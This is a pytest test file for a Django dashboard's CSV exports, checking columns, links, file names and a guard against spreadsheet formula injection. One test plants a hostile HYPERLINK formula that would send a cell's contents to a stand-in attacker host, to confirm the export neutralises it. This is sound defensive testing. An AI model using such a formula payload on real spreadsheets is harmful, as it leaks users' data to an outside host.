"""The files of the dashboard: their columns, their links, and cells that are never run."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import reverse

from news.announcements import take_event_step
from news.models.events import EventState
from offices.roles import Role
from offices.spreadsheets import guarded
from portal.dashboard.exports import TABLES
from portal.dashboard.periods import ministry_today
from tests.factories import EventFactory, member, ministry, published, regency_office
from tests.factories.news import someone

pytestmark = pytest.mark.django_db

NOVEMBER = {"dari": "2025-11-01", "sampai": "2025-11-30"}
WITHIN_NOVEMBER = datetime(2025, 11, 12, 3, tzinfo=UTC)


@pytest.fixture
def auditor(client):
    client.force_login(member(Role.AUDITOR, ministry()))
    return client


def file(client, kind, **query):
    """The lines of a CSV file as dictionaries, read as a spreadsheet reads them."""
    response = client.get(reverse("dashboard_export", args=[kind]), query)
    assert response.status_code == 200
    text = response.getvalue().decode()
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_no_cell_begins_like_a_formula(start):
    assert guarded(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("Musim;=1+1;tanam", "Musim;'=1+1;tanam"),
        ("Musim\t@SUM(A1)", "Musim\t'@SUM(A1)"),
        ("Musim\n-1", "Musim\n'-1"),
        ('Musim";"+1', 'Musim";"\'+1'),
        ("Musim; -1 derajat", "Musim; -1 derajat"),
    ],
)
def test_no_part_of_a_cell_that_a_spreadsheet_may_cut_off_begins_like_a_formula(cell, written):
    assert guarded(cell) == written


def test_a_hostile_headline_reaches_the_file_as_text(auditor):
    hostile = '=HYPERLINK("https://jahat.example/?x="&A1,"Klik, di sini")'
    published(regency_office("73.03"), at=WITHIN_NOVEMBER, headline=hostile)
    [line] = file(auditor, "berita", **NOVEMBER)
    assert line["judul"] == f"'{hostile}"


def test_the_files_carry_their_columns_and_absolute_links(auditor):
    office = regency_office("73.03")
    event = EventFactory(title="Rakornas", organiser=office)
    take_event_step(event, EventState.PUBLISHED, by=someone(Role.EDITOR, office))
    edition = published(office, at=WITHIN_NOVEMBER, headline="Kabar", event=event)
    address = edition.article.get_absolute_url()
    assert file(auditor, "berita", **NOVEMBER) == [
        {
            "tanggal": "2025-11-12",
            "pukul": "11:00",
            "zona": "WITA",
            "judul": "Kabar",
            "kode": "73.03",
            "kantor": str(office),
            "wilayah": office.region.name,
            "provinsi": "Provinsi 73",
            "rubrik": "Pemerintahan",
            "agenda": "Rakornas",
            "tautan": f"http://testserver{address}",
        }
    ]
    assert file(auditor, "provinsi", **NOVEMBER, provinsi="73") == [
        {
            "kode": "73",
            "provinsi": "Provinsi 73",
            "berita": "1",
            "kantor menerbitkan": "1",
            "semua kantor": "1",
            "dari": "2025-11-01",
            "sampai": "2025-11-30",
            "tautan": "http://testserver/pusat/berita/?dari=2025-11-01&sampai=2025-11-30&provinsi=73",
        }
    ]


def test_offices_without_articles_stand_in_the_file_too(auditor):
    regency_office("73.03")
    assert {line["kode"]: line["berita"] for line in file(auditor, "kantor")} == {"00": "0", "73.03": "0"}


def test_a_file_is_named_after_its_period(auditor):
    response = auditor.get(reverse("dashboard_export", args=["kantor"]), NOVEMBER)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="kantor_2025-11-01_2025-11-30.csv"'


def test_every_column_of_a_file_is_described_on_the_page(auditor):
    text = auditor.get(reverse("dashboard")).content.decode()
    for table in TABLES.values():
        for header, about in table.columns:
            assert f"<dt>{header}</dt>" in text
            assert f"<dd>{about}</dd>" in text


def test_links_keep_a_moving_period_and_files_fix_it(auditor):
    published(regency_office("73.03"))
    shown = auditor.get(reverse("dashboard"), {"periode": "90-hari"}).context
    assert all("periode=90-hari" in line["rows_url"] for line in shown["lines"])
    [line] = [line for line in file(auditor, "kantor", periode="90-hari") if line["kode"] == "73.03"]
    assert line["sampai"] == ministry_today().isoformat()
    assert f"sampai={ministry_today()}" in line["tautan"]
    assert "periode" not in line["tautan"]
